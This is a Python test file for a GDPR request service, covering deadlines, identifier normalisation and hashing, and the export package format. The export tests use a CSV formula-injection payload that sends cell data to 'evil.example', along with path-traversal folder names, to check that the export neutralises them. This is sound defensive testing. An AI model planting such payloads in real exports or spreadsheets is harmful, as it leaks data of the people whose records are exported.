"""Pure rules of the gdpr service: deadlines, identifiers, the export package format."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest

from services.gdpr import package
from services.gdpr.domain import add_months, due_at, next_steps
from shared.errors import Invalid
from shared.identifiers import IdentifierHasher, normalise_subject


def at(y: int, m: int, d: int) -> datetime:
    return datetime(y, m, d, 9, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    "received, due",
    [
        (at(2025, 1, 31), at(2025, 2, 28)),  # no 31 February: the month's last day
        (at(2024, 1, 31), at(2024, 2, 29)),  # leap year
        (at(2024, 1, 30), at(2024, 2, 29)),
        (at(2025, 3, 31), at(2025, 4, 30)),
        (at(2025, 12, 15), at(2026, 1, 15)),  # across the year end
        (at(2025, 2, 28), at(2025, 3, 28)),
    ],
)
def test_due_date_is_one_calendar_month_after_receipt(received, due):
    """GDPR art. 12(3), as REQUIREMENTS.md expects: 31 January is due 28/29 February."""
    assert due_at(received) == due


def test_extended_deadline_counts_from_receipt_not_from_the_clamped_due_date():
    """31 Jan + 1 + 2 months is 30 April (from 28 Feb it would wrongly be 28 April)."""
    assert due_at(at(2025, 1, 31), 2) == at(2025, 4, 30)
    assert due_at(at(2025, 1, 31), 1) == at(2025, 3, 31)
    assert add_months(at(2025, 11, 30), 3) == at(2026, 2, 28)


@pytest.mark.parametrize(
    "status, type_, steps",
    [
        ("awaiting_approval", "erase", ("approve", "reject", "preview", "extend")),
        ("previewing", "erase", ("extend",)),
        ("in_progress", "export", ("extend",)),
        ("partially_completed", "export", ("retry", "extend")),
        ("failed", "erase", ("retry", "extend")),
        ("completed", "export", ("export",)),
        ("completed", "erase", ()),
        ("rejected", "export", ()),
    ],
)
def test_what_a_request_is_open_to_follows_its_status(status, type_, steps):
    """The API's links come from this: a finished request cannot be extended, only a completed export downloaded."""
    assert next_steps(status, type_) == steps


def test_subject_identifiers_are_normalised_and_problems_never_echo_the_value():
    assert normalise_subject({"email": " A.B@Example.SE ", "phone": "070-123 45 67", "username": " anna "}) == {
        "email": "a.b@example.se",
        "phone": "+46701234567",
        "username": "anna",
    }
    with pytest.raises(Invalid) as info:
        normalise_subject({"email": "not-an-address-secret", "personnummer": "19991301-1234"})
    fields = {e["field"] for e in info.value.errors}
    assert fields == {"subject.email", "subject.personnummer"}
    assert "secret" not in json.dumps(info.value.errors) + info.value.detail
    with pytest.raises(Invalid):
        normalise_subject({})


def test_care_context_identifiers_go_together_and_are_normalised():
    """Issue 15: name and birth date name a resident only together; unit and register only narrow them."""
    assert normalise_subject(
        {
            "name": " Gun - Britt LINDQVIST ",
            "birth_date": "1938-04-07",
            "unit": "  Avdelning   3 ",
            "register": "Ekbacken",
        }
    ) == {"name": "gun-britt lindqvist", "birth_date": "1938-04-07", "unit": "avdelning 3", "register": "ekbacken"}
    cases = [
        ({"name": "Gun Lindqvist"}, {"subject.birth_date"}),
        ({"birth_date": "1938-04-07"}, {"subject.name"}),
        ({"email": "a@b.se", "unit": "Avd 3"}, {"subject.unit"}),
        ({"register": "Ekbacken"}, {"subject.register", "subject"}),
        ({"name": "Gun Lindqvist", "birth_date": "1938-13-07"}, {"subject.birth_date"}),
        ({"name": "   ", "birth_date": "1938-04-07"}, {"subject.name"}),
        ({"name": "x" * 201, "birth_date": "1938-04-07"}, {"subject.name"}),
    ]
    for subject, fields in cases:
        with pytest.raises(Invalid) as info:
            normalise_subject(subject)
        assert {e["field"] for e in info.value.errors} <= fields, subject
        assert "Lindqvist" not in json.dumps(info.value.errors) + info.value.detail


def test_identifier_hashes_are_keyed_and_stable():
    one, other = IdentifierHasher(b"k" * 32), IdentifierHasher(b"j" * 32)
    assert one("email", "a@b.se") == one("email", "a@b.se") != other("email", "a@b.se")
    assert one("email", "a@b.se") != hashlib.sha256(b"email:a@b.se").hexdigest()


def test_package_has_a_folder_per_service_json_and_csv_per_kind_and_a_checksummed_manifest():
    """R1: readable by another vendor: JSON + CSV, manifest with SHA-256 and row counts, a summary."""
    data, manifest = package.build(
        request_id="r1",
        tenant="t1",
        generated_at="2025-01-01T00:00:00Z",
        subject_hashes=[{"kind": "email", "hmac_sha256": "ab"}],
        parts={
            "orders": {"individual": [{"name": 'Å, "quoted"', "diets": ["gluten"]}], "order": []},
            "../evil": {"../x": [1, 2]},
        },
        services=[{"service": "orders", "phase": "resolve"}, {"service": "../evil", "phase": "resolve"}],
        inventories={"orders": {"service": "orders", "categories": [{"kind": "individual"}]}},
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    names = set(archive.namelist())
    assert {
        "orders/individual.json",
        "orders/individual.csv",
        "orders/order.json",
        "orders/order.csv",
        "orders/inventory.json",
        "summary.txt",
        "manifest.json",
        "evil/x.json",
        "evil/x.csv",
    } == names
    for entry in manifest["files"]:
        assert hashlib.sha256(archive.read(entry["path"])).hexdigest() == entry["sha256"]
    rows = list(csv.reader(io.StringIO(archive.read("orders/individual.csv").decode())))
    assert rows == [["name", "diets"], ['Å, "quoted"', '["gluten"]']]
    assert {f["path"]: f["rows"] for f in manifest["files"]}["orders/individual.json"] == 1
    assert "orders: 1 record(s)" in archive.read("summary.txt").decode()


def test_package_csv_cells_never_start_a_formula():
    """Issue 14: a CRM name typed as a formula is shown as text in the export's CSV, never run;
    the JSON keeps the value exactly, and numbers stay numbers."""
    name = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    data, _manifest = package.build(
        request_id="r1",
        tenant="t1",
        generated_at="2025-01-01T00:00:00Z",
        subject_hashes=[],
        parts={
            "crm": {
                "contact": [
                    {
                        "name": name,
                        "note": "+46 70",
                        "tag": "@A1",
                        "tab": "\tx",
                        "balance": -3,
                        "extra": {"k": "=1"},
                        "plain": "Åsa",
                    }
                ]
            }
        },
        services=[{"service": "crm", "phase": "resolve"}],
        inventories={},
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    rows = list(csv.reader(io.StringIO(archive.read("crm/contact.csv").decode())))
    assert rows[1] == ["'" + name, "'+46 70", "'@A1", "'\tx", "-3", '{"k": "=1"}', "Åsa"]
    assert json.loads(archive.read("crm/contact.json"))[0]["name"] == name
